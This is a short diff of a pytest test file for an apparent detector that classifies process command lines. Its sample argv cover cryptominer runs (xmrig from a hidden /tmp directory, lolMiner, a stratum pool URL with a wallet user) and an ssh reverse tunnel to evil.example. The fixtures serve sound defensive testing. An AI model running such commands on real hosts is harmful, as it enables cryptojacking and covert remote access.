@@ -67,7 +67,8 @@ def test_errors_name_file_line_and_field(text, expected):
 @pytest.mark.parametrize("argv,expected", [
     (["/tmp/.x/xmrig", "-c", "config.json"], {"miner-binary", "exec-from-staging-dir", "exec-hidden-in-staging-dir"}),
     (["/opt/lolMiner", "--algo", "ETHASH", "--pool", "eu1.example:4444"], {"miner-binary", "miner-argv-shape"}),
-    (["/usr/bin/python3", "run.py", "-o", "stratum+tcp://pool.example:3333", "-u", "4ABC"], {"miner-stratum-url"}),
+    (["/usr/bin/python3", "run.py", "-o", "stratum+tcp://pool.example:3333", "-u", "4ABC"],
+     {"miner-stratum-url", "miner-pool-and-user-flags"}),
     (["/opt/m", "--donate-level", "1", "-a", "rx/0"], {"miner-argv-shape"}),
     (["/usr/bin/ssh", "-NfR", "2222:localhost:22", "evil.example"], {"ssh-reverse-tunnel"}),
     (["/usr/bin/ssh", "-D", "1080", "-N", "proxy.example"], {"ssh-reverse-tunnel"}),
